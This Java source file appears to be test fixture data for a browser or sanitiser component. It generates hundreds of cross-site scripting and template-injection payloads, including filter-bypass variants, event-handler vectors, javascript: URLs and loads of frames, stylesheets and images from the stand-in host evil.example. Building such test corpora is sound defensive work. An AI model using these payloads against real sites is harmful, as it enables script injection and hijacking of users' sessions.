package relata.browser;

import java.util.ArrayList;
import java.util.List;

/** More than 500 texts that run or load something where a page takes a text for markup, code, an address or a template. */
final class Payloads {

    /** Where {@code JS} stands, the script goes. */
    private static final List<String> VECTORS = List.of(
            "<script>JS</script>",
            "<ScRiPt/x>JS</sCrIpT >",
            "<scr<script>ipt>JS</scr</script>ipt>",
            "<img src=x onerror=\"JS\">",
            "<img/src='x'/onerror='JS'>",
            "<svg onload=\"JS\">",
            "<svg><script>JS</script></svg>",
            "<svg><animate onbegin=\"JS\" attributeName=x dur=1s>",
            "<math><mtext><img src=x onerror=\"JS\"></mtext></math>",
            "<iframe srcdoc=\"<script>parent.JS</script>\"></iframe>",
            "<iframe src=\"javascript:parent.JS\"></iframe>",
            "<iframe src=\"https://evil.example/frame\"></iframe>",
            "<a href=\"javascript:JS\" autofocus onfocus=\"JS\" tabindex=1>x</a>",
            "javascript:JS",
            "data:text/html,<script>JS</script>",
            "<body onload=\"JS\">",
            "<input autofocus onfocus=\"JS\">",
            "<details open ontoggle=\"JS\"><summary>x</summary></details>",
            "<video><source onerror=\"JS\"></video>",
            "<audio src=x onerror=\"JS\"></audio>",
            "<object data=\"javascript:JS\"></object>",
            "<embed src=\"https://evil.example/embed\">",
            "<style>@import 'https://evil.example/style.css';</style>",
            "<link rel=stylesheet href=\"https://evil.example/style.css\">",
            "<link rel=prefetch href=\"https://evil.example/ahead\">",
            "<img src=\"https://evil.example/pixel.png\">",
            "<img srcset=\"https://evil.example/pixel2.png 1x\">",
            "<p style=\"background:url(https://evil.example/back.png)\">x</p>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<form action=\"https://evil.example/\"><button formaction=\"javascript:JS\">x</button></form>",
            "<template><script>JS</script></template>",
            "<marquee onstart=\"JS\">x</marquee>",
            "<div onpointerenter=\"JS\" onmouseover=\"JS\">x</div>",
            "&lt;script&gt;JS&lt;/script&gt;",
            "\\u003cscript\\u003eJS\\u003c/script\\u003e",
            "%3Cscript%3EJS%3C/script%3E",
            "{{constructor.constructor('JS')()}}",
            "${JS}",
            "#{JS}",
            "<%= JS %>",
            "{name, select, other {<script>JS</script>}}",
            "`-JS-`",
            "'-JS-'",
            "\"-JS-\"");

    private static final List<String> FRONTS = List.of("", "\">", "'>", "</title>", "</textarea></script>-->]]>");
    private static final List<String> SCRIPTS = List.of("ran(1)", "alert(1)", "ran`1`");

    private Payloads() {}

    static List<String> all() {
        var all = new ArrayList<String>();
        for (String vector : VECTORS) {
            for (String front : FRONTS) {
                for (String script : vector.contains("JS") ? SCRIPTS : List.of("")) {
                    all.add(front + vector.replace("JS", script));
                }
            }
        }
        return List.copyOf(all);
    }
}
